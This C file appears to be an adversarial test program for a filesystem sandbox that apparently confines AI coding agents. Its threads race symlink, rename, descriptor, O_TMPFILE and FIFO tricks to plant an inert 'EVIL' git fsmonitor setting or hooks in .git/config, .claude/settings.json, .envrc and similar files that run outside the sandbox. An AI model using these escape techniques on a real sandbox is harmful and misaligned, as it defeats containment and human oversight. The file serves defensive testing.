/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries, from inside the sandbox, to get the word EVIL into a file that runs later outside. Every
 * thread repeats one idea, and they disturb one another; two of these programs may work
 * in one directory. Whether anything came of it is judged outside (test_attacker.py), which also
 * made the tree: a git repository, the directories src, old/deep, .claude and node_modules.
 *
 *   attacker SECONDS [IDEA]
 *   attacker ideas             their names
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "../../src/sandbox/native/direct.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* equally long, so that one can be written over the other */
static const char good[] = "[core]\n\tabbrev     =   12\n";
static const char evil[] = "[core]\n\tfsmonitor  = EVIL\n";
_Static_assert(sizeof(good) == sizeof(evil), "written over each other");

static time_t end;

static int running(void)
{
	return time(NULL) < end;
}

static void spoil(int fd)
{
	if (fd < 0)
		return;
	(void)!pwrite(fd, evil, sizeof(evil) - 1, 0);
	close(fd);
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);

	if (fd >= 0) {
		(void)!write(fd, text, strlen(text));
		close(fd);
	}
}

static int swap(const char *a, const char *b)
{
	return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static void plant(const char *path)
{
	spoil(open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755));
}

/* A name of this round: few, so that two of us meet. */
static const char *name(char *buf, const char *what, int round)
{
	sprintf(buf, "%s%d", what, round % 8);
	return buf;
}

static const char *in(char *buf, const char *dir, const char *file)
{
	sprintf(buf, "%s/%s", dir, file);
	return buf;
}

static int holds_evil(const char *path)
{
	char text[256] = "";
	int fd = open(path, O_RDONLY | O_NONBLOCK), n;

	n = fd < 0 ? 0 : (int)read(fd, text, sizeof(text) - 1);
	close(fd);
	return n > 0 && strstr(text, "EVIL");
}

/* It worked: leave the traces to the judge. */
static int caught(const char *dir)
{
	char f[128];

	if (access(in(f, dir, "objects"), F_OK) < 0 || access(in(f, dir, "refs"), F_OK) < 0)
		return 0;
	if (access(in(f, dir, "hooks/pre-commit"), F_OK) == 0)
		return 1;
	return holds_evil(in(f, dir, "config"));
}

/* --- the path changes while it is looked at --- */

static volatile char flipping[64] = "src/.envrc";

static void *flip_name(void *arg)
{
	static const char names[][11] = { "/tmp/.envr", "src/.envrc", "/dev/null", "src/.envrc" };

	for (unsigned i = 0; running(); i++) {
		for (int k = 0; k < 10; k++)
			flipping[k] = names[i % 4][k];
		flipping[4] = 'x';
		for (volatile int k = 0; k < 50; k++)
			;
		flipping[4] = names[i % 4][4];
	}
	return arg;
}

static void *open_flipping(void *arg)
{
	while (running())
		spoil(open((const char *)(uintptr_t)flipping, O_WRONLY | O_CREAT, 0644));
	return arg;
}

static void *rename_flipping(void *arg)
{
	while (running()) {
		put("src/r", evil);
		(void)rename("src/r", (const char *)(uintptr_t)flipping);
		(void)link("src/r", (const char *)(uintptr_t)flipping);
		(void)symlink("src/r", (const char *)(uintptr_t)flipping);
		(void)mkdir((const char *)(uintptr_t)flipping, 0755);
	}
	return arg;
}

/* A file can be emptied by calls that need no right to write to it. */
static volatile char cutting[16] = "src/.bashrc";
static volatile struct {
	uint64_t flags, mode, resolve;
} cut_how;

static void *flip_cut(void *arg)
{
	static const char names[][12] = { "src/.bashrc", "/tmp/bashrc", "src/.bashrc",
					  "/dev/null" };

	for (unsigned i = 0; running(); i++) {
		for (int k = 0; k < 11; k++)
			cutting[k] = names[i % 4][k];
		cut_how.flags = i % 3 ? O_RDONLY : O_RDONLY | O_TRUNC;
		for (volatile int k = 0; k < 30; k++)
			;
	}
	return arg;
}

static void *cut(void *arg)
{
	const char *path = (const char *)(uintptr_t)cutting;

	close(open("/tmp/bashrc", O_WRONLY | O_CREAT, 0644));
	while (running()) {
		(void)!truncate(path, 0);
		close(open(path, O_RDONLY | O_TRUNC));
		close((int)syscall(SYS_openat2, AT_FDCWD, path, &cut_how, sizeof(cut_how)));
		close((int)syscall(SYS_openat2, AT_FDCWD, "src/.bashrc", &cut_how,
				   sizeof(cut_how)));
	}
	return arg;
}

/* --- the directory descriptor changes --- */

#define SWAPPED 60

static void *swap_descriptors(void *arg)
{
	int safe = open("src", O_PATH | O_DIRECTORY),
	    target = open(".claude", O_PATH | O_DIRECTORY);

	while (running()) {
		dup2(safe, SWAPPED);
		dup2(target, SWAPPED);
	}
	return arg;
}

static void *open_at_swapped(void *arg)
{
	while (running()) {
		spoil(openat(SWAPPED, "settings.json", O_WRONLY | O_CREAT, 0644));
		put("src/cand.json", evil);
		(void)renameat(AT_FDCWD, "src/cand.json", SWAPPED, "settings.json");
		(void)mkdirat(SWAPPED, "hooks", 0755);
	}
	return arg;
}

/* --- directories and links take protected places --- */

static void *move_directories(void *arg)
{
	char d[64], f[128];

	for (int i = 0; running(); i++) {
		name(d, "mv", i);
		(void)mkdir(d, 0755);
		plant(in(f, d, "settings.json"));
		plant(in(f, d, "tasks.json"));
		(void)rename(d, ".claude");
		(void)swap(d, ".claude");
		(void)rename(d, "src/.vscode");
		(void)rename(d, "src/.claude");
		(void)symlink(d, "src/.claude");
		(void)symlink(d, "src/ln");
		(void)rename("src/ln", "src/.claude");
		(void)link("src/ln", "src/.claude");
		(void)swap("src/ln", ".claude");
		unlink("src/ln");
		unlink(in(f, d, "settings.json"));
		unlink(in(f, d, "tasks.json"));
		rmdir(d);
	}
	return arg;
}

static void *move_ancestors(void *arg)
{
	char d[64], f[128], g[160];
	int kept;

	for (int i = 0; running(); i++) {
		name(d, "src/an", i);
		(void)mkdir(d, 0755);
		(void)mkdir(in(f, d, "user"), 0755);
		kept = open(f, O_PATH | O_DIRECTORY);
		(void)mkdir("src/.config", 0755);
		(void)rename(d, "src/.config/systemd");
		(void)symlink("../../src", "src/.config/systemd");
		spoil(openat(kept, "evil.service", O_WRONLY | O_CREAT, 0644));
		(void)rename(d, ".git/info");
		(void)swap(d, ".git/info");
		(void)unlink("src/.config/systemd");
		close(kept);
		unlink(in(g, f, "evil.service"));
		rmdir(f);
		rmdir(d);
	}
	return arg;
}

/* A rule that forbids a path which does not exist: conf/secret.yml. */
static void *denied_path(void *arg)
{
	char d[64], f[128];

	for (int i = 0; running(); i++) {
		name(d, "dn", i);
		(void)mkdir(d, 0755);
		plant(in(f, d, "secret.yml"));
		(void)rename(d, "conf");
		(void)symlink(d, "conf");
		(void)mkdir("conf", 0755);
		plant("conf/secret.yml");
		(void)swap(d, "conf");
		(void)rename(in(f, d, "secret.yml"), "conf/secret.yml");
		(void)link(f, "conf/secret.yml");
		unlink(f);
		rmdir(d);
		rmdir("conf");
	}
	return arg;
}

static void *swap_symlink(void *arg)
{
	while (running()) {
		unlink("src/sl");
		(void)symlink("../old/deep", "src/sl");
		spoil(open("src/sl/settings.json", O_WRONLY | O_CREAT, 0644));
		unlink("src/sl");
		(void)symlink("../.claude", "src/sl");
		spoil(open("src/sl/settings.json", O_WRONLY | O_CREAT, 0644));
		spoil(open("/proc/self/cwd/.claude/settings.json", O_WRONLY | O_CREAT, 0644));
		spoil(open("/proc/self/root/../proc/self/cwd/src/.envrc", O_WRONLY | O_CREAT,
			   0644));
		unlink("old/deep/settings.json");
	}
	return arg;
}

static void *unnamed_files(void *arg)
{
	static const char *const to[] = {
		"src/.envrc",        ".claude/settings.json", "src/.bashrc",
		".git/config",       ".git/hooks/pre-commit", ".git/commondir",
		"old/deep/.mcp.json"
	};
	char path[64];

	for (unsigned i = 0; running(); i++) {
		int fd = open("src", O_RDWR | O_TMPFILE, 0755);

		(void)!write(fd, evil, sizeof(evil) - 1);
		sprintf(path, "/proc/self/fd/%d", fd);
		(void)linkat(AT_FDCWD, path, AT_FDCWD, to[i % 7], AT_SYMLINK_FOLLOW);
		(void)linkat(fd, "", AT_FDCWD, to[i % 7], AT_EMPTY_PATH);
		close(fd);
	}
	return arg;
}

/* --- git: a directory that is one --- */

static void *worktree_files(void *arg)
{
	while (running()) {
		plant(".git/commondir");
		put("cd", "../evil\n");
		(void)rename("cd", ".git/commondir");
		(void)swap("cd", ".git/HEAD");
		(void)swap("cd", ".git/HEAD");
		plant(".git/config.worktree");
		(void)mkdir(".git/worktrees", 0755);
		(void)mkdir(".git/worktrees/w", 0755);
		plant(".git/worktrees/w/commondir");
		(void)truncate(".git/worktrees/w/commondir", 0);
		plant(".git/worktrees/w/config.worktree");
		plant(".git/info/attributes");
		plant(".git/hooks/pre-commit");
		(void)mkdir(".git/hooks/sub", 0755);
		put(".git/hooks/x.sample", evil);
		(void)rename(".git/hooks/x.sample", ".git/hooks/pre-commit");
		(void)link(".git/hooks/x.sample", ".git/hooks/pre-commit");
		(void)symlink("x.sample", ".git/hooks/pre-commit");
	}
	return arg;
}

/* The lock file is kept open, and written to after it became the configuration. */
static void *keep_lock_open(void *arg)
{
	while (running()) {
		int fd = open(".git/config.lock", O_RDWR | O_CREAT | O_EXCL, 0644);

		if (fd < 0) {
			unlink(".git/config.lock");
			continue;
		}
		(void)!write(fd, good, sizeof(good) - 1);
		(void)rename(".git/config.lock", ".git/config");
		spoil(fd);
	}
	return arg;
}

static void *change_lock(void *arg)
{
	while (running()) {
		int fd = open(".git/config.lock", O_WRONLY);

		if (fd >= 0) {
			(void)!pwrite(fd, evil, sizeof(evil) - 1, 0);
			(void)!pwrite(fd, good, sizeof(good) - 1, 0);
			close(fd);
		}
	}
	return arg;
}

static void *change_mode(void *arg)
{
	while (running()) {
		chmod(".git", 0);
		chmod(".git", 0755);
		for (volatile int k = 0; k < 2000; k++)
			;
	}
	return arg;
}

static void *write_config(void *arg)
{
	while (running()) {
		spoil(open(".git/config", O_WRONLY));
		spoil(open(".git/config", O_WRONLY | O_CREAT | O_TRUNC, 0644));
		put("cf", evil);
		(void)rename("cf", ".git/config");
		(void)swap("cf", ".git/config");
		(void)link("cf", ".git/config");
		(void)symlink("../cf", ".git/config");
		if (!holds_evil(".git/config"))
			(void)truncate(".git/config", 0);
	}
	return arg;
}

/* --- git: a directory that becomes one --- */

static volatile int newborn = -1; /* the configuration of what is being born */

static void *birth(void *arg)
{
	char d[64], f[128];

	for (int i = 0; running(); i++) {
		int fd;

		if (caught(name(d, "src/b", i)))
			continue;
		(void)mkdir(d, 0755);
		(void)mkdir(in(f, d, "refs"), 0755);
		put(in(f, d, "HEAD"), "ref: refs/heads/x\n");
		fd = open(in(f, d, "config"), O_RDWR | O_CREAT, 0644);
		(void)!pwrite(fd, good, sizeof(good) - 1, 0);
		newborn = fd;
		(void)mkdir(in(f, d, "objects"), 0755);
		newborn = -1;
		(void)symlink(".", in(f, d, "objects"));
		spoil(fd);
		if (caught(d))
			continue;
		if (i % 3 == 0)
			rmdir(in(f, d, "objects"));
		if (i % 5 == 0)
			rmdir(in(f, d, "refs"));
		if (i % 7 == 0)
			unlink(in(f, d, "config"));
	}
	return arg;
}

static void *change_newborn(void *arg)
{
	while (running()) {
		int fd = newborn;

		if (fd < 0)
			continue;
		(void)!pwrite(fd, evil, sizeof(evil) - 1, 0);
		(void)!pwrite(fd, good, sizeof(good) - 1, 0);
	}
	return arg;
}

/*
 * A pipe called config makes the open wait; when it ends, a file may stand there. Without a sandbox
 * nobody asks again what stands there: the one who waits is let go, and comes back to the file.
 */
static void *wait_at_pipe(void *arg)
{
	while (running()) {
		int fd;

		(void)mkfifo("src/p/config", 0644);
		fd = open("src/p/config", O_WRONLY);
		spoil(fd);
	}
	return arg;
}

static void *replace_pipe(void *arg)
{
	char path[64];

	while (running()) {
		int pipe;

		(void)mkdir("src/p", 0755);
		(void)mkdir("src/p/refs", 0755);
		rmdir("src/p/objects");
		usleep(2000);
		pipe = open("src/p/config", O_PATH);
		unlink("src/p/config");
		put("src/p/config", good);
		(void)mkdir("src/p/objects", 0755);
		usleep(15000);
		sprintf(path, "/proc/self/fd/%d", pipe);
		close(open(path, O_RDONLY | O_NONBLOCK));
		close(pipe);
		usleep(1000);
		if (caught("src/p"))
			return arg;
		unlink("src/p/config");
		usleep(1000);
	}
	return arg;
}

static void *hooks_of_newborn(void *arg)
{
	char d[64], f[128], g[128];

	for (int i = 0; running(); i++) {
		int kept;

		if (caught(name(d, "src/hb", i)))
			continue;
		(void)mkdir(d, 0755);
		(void)mkdir(in(f, d, "hk"), 0755);
		kept = open(f, O_PATH | O_DIRECTORY);
		(void)rename(f, in(g, d, "hooks"));
		(void)mkdir(in(f, d, "refs"), 0755);
		(void)mkdir(in(f, d, "objects"), 0755);
		spoil(openat(kept, "pre-commit", O_WRONLY | O_CREAT, 0755));
		(void)symlinkat("/tmp/x", kept, "post-commit");
		close(kept);
		if (i % 2 && !caught(d)) {
			rmdir(in(f, d, "objects"));
			unlink(in(f, d, "hooks/pre-commit"));
			unlink(in(f, d, "hooks/post-commit"));
			rmdir(in(f, d, "hooks"));
		}
	}
	return arg;
}

static void *plant_hooks(void *arg)
{
	char d[64], f[128];

	for (int i = 0; running(); i++) {
		name(d, "src/hb", i);
		plant(in(f, d, "hk/pre-commit"));
		plant(in(f, d, "hooks/pre-commit"));
		plant(in(f, d, "commondir"));
		(void)symlink("../../cf", in(f, d, "config"));
	}
	return arg;
}

static void *odd_objects(void *arg)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	char d[64], f[128];

	for (int i = 0; running(); i++) {
		int fd;

		if (caught(name(d, "src/o", i)))
			continue;
		(void)mkdir(d, 0755);
		plant(in(f, d, "config"));
		(void)mkdir(in(f, d, "refs"), 0755);
		strcpy(a.sun_path, in(f, d, "objects"));
		fd = socket(AF_UNIX, SOCK_STREAM, 0);
		(void)bind(fd, (struct sockaddr *)&a, sizeof(a));
		close(fd);
		(void)mknod(f, S_IFREG | 0755, 0);
		(void)symlink(".", f);
		plant(f);
		(void)rename("src/ob", f);
		(void)mkdir("src/ob", 0755);
		if (caught(d))
			continue;
		rmdir(in(f, d, "refs"));
		unlink(in(f, d, "objects"));
		(void)rename("src/ob", f);
		(void)mkdir(in(f, d, "refs"), 0755);
		rmdir(in(f, d, "objects"));
	}
	return arg;
}

/* --- other names for the same file --- */

static void *aliases(void *arg)
{
	static const char *const files[] = { ".git/config", "src/.bashrc", ".bashrc",
					     "old/deep/.vscode/tasks.json" };
	char path[64];

	for (unsigned i = 0; running(); i++) {
		const char *file = files[i % 4];
		int fd;

		(void)link(file, "alias");
		(void)linkat(AT_FDCWD, file, AT_FDCWD, "alias", AT_SYMLINK_FOLLOW);
		fd = open(file, O_RDONLY);
		sprintf(path, "/proc/self/fd/%d", fd);
		spoil(open(path, O_WRONLY));
		(void)linkat(AT_FDCWD, path, AT_FDCWD, "alias", AT_SYMLINK_FOLLOW);
		(void)linkat(fd, "", AT_FDCWD, "alias", AT_EMPTY_PATH);
		sprintf(path, "/dev/fd/%d", fd);
		spoil(open(path, O_RDWR));
		close(fd);
		fd = open(file, O_PATH);
		sprintf(path, "/proc/self/fd/%d", fd);
		spoil(open(path, O_WRONLY | O_TRUNC));
		close(fd);
		spoil(open("alias", O_WRONLY));
		unlink("alias");
		(void)truncate(file, 0);
		spoil(open(file, O_WRONLY | O_APPEND));
		close(open(file, O_RDONLY | O_TRUNC));
		unlink("to");
		(void)symlink(file, "to");
		spoil(open("to", O_WRONLY));
		(void)truncate("to", 0);
	}
	return arg;
}

/* What the kernel lets us do directly must not come out under another name. */
static void *out_of_bulk(void *arg)
{
	char d[64], f[128];

	for (int i = 0; running(); i++) {
		name(d, "node_modules/d", i);
		(void)mkdir(d, 0755);
		plant(in(f, d, ".envrc"));
		plant(in(f, d, "config"));
		(void)mkdir(in(f, d, "objects"), 0755);
		(void)mkdir(in(f, d, "refs"), 0755);
		put(in(f, d, "HEAD"), "ref: refs/heads/x\n");
		(void)rename(d, "old/out");
		(void)mkdir("old/swap", 0755);
		(void)swap("old/swap", d);
		(void)swap(d, "old/swap");
		(void)rename("node_modules", "old/nm");
		(void)swap("node_modules", "old/swap");
		put("node_modules/file", evil);
		(void)rename("node_modules/file", "old/.envrc");
		(void)rename("node_modules/file", "src/moved");
	}
	return arg;
}

static void *out_of_bulk_fast(void *arg)
{
	while (running()) {
		put("node_modules/q", "x");
		unlink("node_modules/q");
		(void)mkdir("node_modules/q", 0755);
		plant("node_modules/q/.envrc");
		(void)rename("node_modules/q", "old/q");
		unlink("node_modules/q/.envrc");
		rmdir("node_modules/q");
	}
	return arg;
}

/* Calls that say the broker is not to be asked, on the names that only it may make or change. */
static void *marked(void *arg)
{
	static const char *const names[] = { "src/.envrc", "src/.bashrc", ".git/hooks/pre-commit",
					     ".git/config", "old/deep/.vscode/tasks.json" };
	static const int flags[] = { O_WRONLY | O_CREAT, O_RDWR, O_RDONLY | O_TRUNC,
				     O_WRONLY | O_CREAT | O_TRUNC };
	char fd_path[64];

	for (unsigned i = 0; running(); i++) {
		int fd;

		spoil((int)syscall(SYS_openat, AT_FDCWD, names[i % 5], flags[i / 5 % 4], 0755, 0,
				   DIRECT_MARK));
		spoil((int)syscall(SYS_openat, AT_FDCWD, flipping, O_WRONLY | O_CREAT, 0755, 0,
				   DIRECT_MARK));
		if (syscall(SYS_mkdirat, AT_FDCWD, "src/.vscode", 0755, 0, 0, DIRECT_MARK) == 0)
			plant("src/.vscode/tasks.json");
		fd = (int)syscall(SYS_openat, AT_FDCWD, "src", O_TMPFILE | O_WRONLY, 0755, 0,
				  DIRECT_MARK);
		sprintf(fd_path, "/proc/self/fd/%d", fd);
		if (fd >= 0)
			(void)linkat(AT_FDCWD, fd_path, AT_FDCWD, "src/.mcp.json",
				     AT_SYMLINK_FOLLOW);
		spoil(fd);
	}
	return arg;
}

static const struct {
	const char *name;
	void *(*run)(void *);
} ideas[] = {
	{ "flip", flip_name },
	{ "flip", open_flipping },
	{ "flip", rename_flipping },
	{ "cut", flip_cut },
	{ "cut", cut },
	{ "descriptors", swap_descriptors },
	{ "descriptors", open_at_swapped },
	{ "directories", move_directories },
	{ "ancestors", move_ancestors },
	{ "denied", denied_path },
	{ "symlink", swap_symlink },
	{ "unnamed", unnamed_files },
	{ "worktree", worktree_files },
	{ "lock", keep_lock_open },
	{ "lock", change_lock },
	{ "mode", change_mode },
	{ "mode", write_config },
	{ "birth", birth },
	{ "birth", change_newborn },
	{ "pipe", wait_at_pipe },
	{ "pipe", replace_pipe },
	{ "hooks", hooks_of_newborn },
	{ "hooks", plant_hooks },
	{ "objects", odd_objects },
	{ "aliases", aliases },
	{ "bulk", out_of_bulk },
	{ "bulk", out_of_bulk_fast },
	{ "marked", marked },
};
#define N_IDEAS (sizeof(ideas) / sizeof(ideas[0]))

int main(int argc, char **argv)
{
	pthread_t threads[N_IDEAS];
	size_t n = 0;

	if (argc < 2)
		return 2;
	for (size_t i = 0; strcmp(argv[1], "ideas") == 0 && i < N_IDEAS; i++)
		printf("%s\n", ideas[i].name);
	if (strcmp(argv[1], "ideas") == 0)
		return 0;
	signal(SIGPIPE, SIG_IGN); /* who waited at a pipe may come too late */
	end = time(NULL) + atoi(argv[1]);
	for (size_t i = 0; i < N_IDEAS; i++) {
		if ((argc < 3 || strcmp(argv[2], ideas[i].name) == 0) &&
		    pthread_create(&threads[n], NULL, ideas[i].run, NULL) == 0)
			n++;
	}
	if (n == 0)
		return 2;
	printf("%zu threads\n", n);
	fflush(stdout);
	/* one may still wait at its pipe: the process ends all the same */
	sleep((unsigned)atoi(argv[1]));
	usleep(300000);
	chmod(".git", 0755);
	_exit(0);
}
